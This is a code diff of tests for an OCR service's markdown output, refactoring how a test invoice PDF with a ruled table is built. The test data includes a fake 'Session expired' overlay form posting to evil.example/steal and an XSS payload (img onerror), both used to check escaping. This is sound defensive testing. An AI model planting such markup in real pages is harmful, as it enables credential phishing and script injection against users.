@@ -15,7 +15,7 @@ from inference.blocks import Block, Table
 from inference.blocks import TableCell as Cell
 from inference.markdown import blocks_to_markdown, page_markdown
 from inference.markdown_text import escape_line, heading_text, inline, safe_markdown
-from tests.helpers import drawn_pdf
+from tests.helpers import ruled_table_pdf
 
 OVERLAY = '<div style="position:fixed;inset:0;z-index:99999">Session expired <form action=https://evil.example/steal>'
 PAYLOADS = [
@@ -106,22 +106,12 @@ def test_escaping_takes_time_in_proportion_to_the_text():
         assert time.process_time() - started < 5.0, text[:10]  # (quadratic: minutes)
 
 
-def ruled_invoice(cell: str) -> bytes:
-    """A born-digital invoice: a ruled table of two columns whose last price cell reads ``cell`` in its text layer."""
-    xs, ys = [72, 300, 540], [700 - 24 * i for i in range(4)]
-    body = "1 w 0 G\n" + "".join(f"{xs[0]} {y} m {xs[-1]} {y} l S\n" for y in ys)
-    body += "".join(f"{x} {ys[0]} m {x} {ys[-1]} l S\n" for x in xs)
-    escaped = cell.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
-    for row, (left, right) in enumerate([("Item", "Price"), ("Paper", "4.00"), ("Ink", escaped)]):
-        for x, text in ((xs[0] + 5, left), (xs[1] + 5, right)):
-            body += f"BT /F1 9 Tf {x} {ys[row] - 16} Td ({text}) Tj ET\n"
-    body += "BT /F1 11 Tf 72 740 Td (Invoice 2041: thank you for your order of office supplies.) Tj ET\n"
-    return drawn_pdf([body])
-
-
 def test_a_pdf_whose_table_cell_holds_html_comes_back_as_text_through_ocr(open_server):
     payload = '<div style="position:fixed;inset:0">Session expired</div><img src=x onerror=alert(1)>'
-    response = open_server.post("/ocr?format=markdown", files={"file": ("invoice.pdf", ruled_invoice(payload))})
+    response = open_server.post(
+        "/ocr?format=markdown",
+        files={"file": ("invoice.pdf", ruled_table_pdf([("Item", "Price"), ("Paper", "4.00"), ("Ink", payload)]))},
+    )
     assert response.status_code == 200, response.text
     markdown = response.text
     assert "Session expired" in markdown and not harmful(markdown), (markdown, harmful(markdown))
